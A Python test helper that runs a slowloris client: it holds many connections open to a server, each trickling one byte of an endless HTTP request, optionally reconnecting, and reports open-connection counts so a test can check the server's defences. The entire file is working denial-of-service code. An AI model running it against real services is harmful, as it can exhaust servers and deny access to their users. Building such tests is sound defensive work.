"""A slowloris client, run as a child process: COUNT connections to HOST:PORT, each sending one
byte of a request that never ends every PAUSE seconds.

    python tests/slowloris.py HOST PORT COUNT PAUSE [--reconnect]

With ``--reconnect``, a connection the server closed is opened again (an attack that never
lets go); without, it stays closed. After every round it prints ``opened=N open=M`` on stdout
(a file, see processes.Child), so the test knows how many connections the server still holds.
"""

from __future__ import annotations

import socket
import sys
import time
from typing import List, Optional

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100_000


def connect(host: str, port: int) -> Optional[socket.socket]:
    try:
        sock = socket.create_connection((host, port), timeout=10)
    except OSError:
        return None
    sock.setblocking(False)
    return sock


def still_open(sock: socket.socket) -> bool:
    try:
        return sock.recv(4096) != b""  # the server never answers an unfinished request
    except BlockingIOError:
        return True
    except OSError:
        return False


def main(argv: List[str]) -> None:
    host, port, count, pause = argv[0], int(argv[1]), int(argv[2]), float(argv[3])
    reconnect = "--reconnect" in argv
    socks: List[Optional[socket.socket]] = []
    sent: List[int] = []
    opened = 0
    for _ in range(count):
        socks.append(connect(host, port))
        sent.append(0)
        opened += socks[-1] is not None
    while True:
        for index, sock in enumerate(socks):
            if sock is not None and still_open(sock):
                try:
                    sock.send(REQUEST[sent[index] % len(REQUEST):][:1])
                    sent[index] += 1
                    continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
            if sock is not None:
                sock.close()
                socks[index] = None
            if reconnect:
                socks[index] = connect(host, port)
                sent[index] = 0
                opened += socks[index] is not None
        print(f"opened={opened} open={sum(s is not None for s in socks)}", flush=True)
        time.sleep(pause)


if __name__ == "__main__":
    main(sys.argv[1:])
